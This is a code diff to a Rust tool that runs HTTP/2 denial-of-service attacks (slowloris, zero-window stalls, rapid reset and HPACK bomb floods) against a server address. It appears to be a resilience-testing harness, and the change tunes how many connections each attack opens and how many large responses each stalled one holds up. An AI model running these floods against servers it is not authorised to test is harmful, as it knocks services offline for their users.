@@ -17,8 +17,11 @@ use crate::wire::{Frame, Indexing, Wire, flag, frame, kind, literal, request, se
 const BATCH: u32 = 100;
 /// Longest wait for a server to take bytes, or to send any.
 const LIMIT: Duration = Duration::from_millis(200);
-/// Connections of the attacks that hold rather than send.
-const HELD: usize = 200;
+/// Connections of slowloris.
+const SLOW: usize = 200;
+/// Connections without a window, and the answers that each holds up: 500 in all.
+const STALLED: usize = 50;
+const ANSWERS: u32 = 10;
 const INITIAL_WINDOW_SIZE: u16 = 4;
 
 /// One kind of attack.
@@ -106,8 +109,8 @@ impl Attack {
     pub async fn run(self, address: SocketAddr, time: Duration) -> Result<Outcome> {
         let until = Instant::now() + time;
         match self {
-            Self::Slowloris => many(|| slowloris(address, until)).await,
-            Self::ZeroWindow => many(|| zero_window(address, until)).await,
+            Self::Slowloris => many(SLOW, || slowloris(address, until)).await,
+            Self::ZeroWindow => many(STALLED, || zero_window(address, until)).await,
             flood => self.flood(address, until).await.map(|outcome| {
                 debug_assert!(outcome.sent > 0, "{flood:?} sent nothing");
                 outcome
@@ -221,7 +224,11 @@ impl Flood {
     /// Appends some frames; says how many.
     fn batch(&mut self, out: &mut BytesMut) -> u64 {
         let end = flag::END_HEADERS | flag::END_STREAM;
-        let count = if self.attack == Attack::HpackBomb { 4 } else { BATCH };
+        let count = if self.attack == Attack::HpackBomb {
+            4
+        } else {
+            BATCH
+        };
         for _ in 0..count {
             match self.attack {
                 Attack::RapidReset => {
@@ -245,16 +252,16 @@ impl Flood {
     }
 }
 
-async fn many<F: Future<Output = Outcome>>(make: impl Fn() -> F) -> Result<Outcome> {
+async fn many<F: Future<Output = Outcome>>(count: usize, make: impl Fn() -> F) -> Result<Outcome> {
     let mut total = Outcome::default();
-    for outcome in join_all((0..HELD).map(|_| make())).await {
+    for outcome in join_all((0..count).map(|_| make())).await {
         total.add(outcome);
     }
     anyhow::ensure!(total.connections > 0, "cannot connect");
     Ok(total)
 }
 
-/// Asks for ten large answers and gives them no room.
+/// Asks for large answers and gives them no room.
 async fn zero_window(address: SocketAddr, until: Instant) -> Outcome {
     let mut outcome = Outcome::default();
     let Ok(mut wire) = Wire::connect(address, &[(INITIAL_WINDOW_SIZE, 0)]).await else {
@@ -262,7 +269,7 @@ async fn zero_window(address: SocketAddr, until: Instant) -> Outcome {
     };
     outcome.connections = 1;
     let block = request(&address.to_string(), "/bytes/10000000");
-    for number in 0..10 {
+    for number in 0..ANSWERS {
         let end = flag::END_HEADERS | flag::END_STREAM;
         frame(&mut wire.out, kind::HEADERS, end, 2 * number + 1, &block);
         outcome.sent += 1;
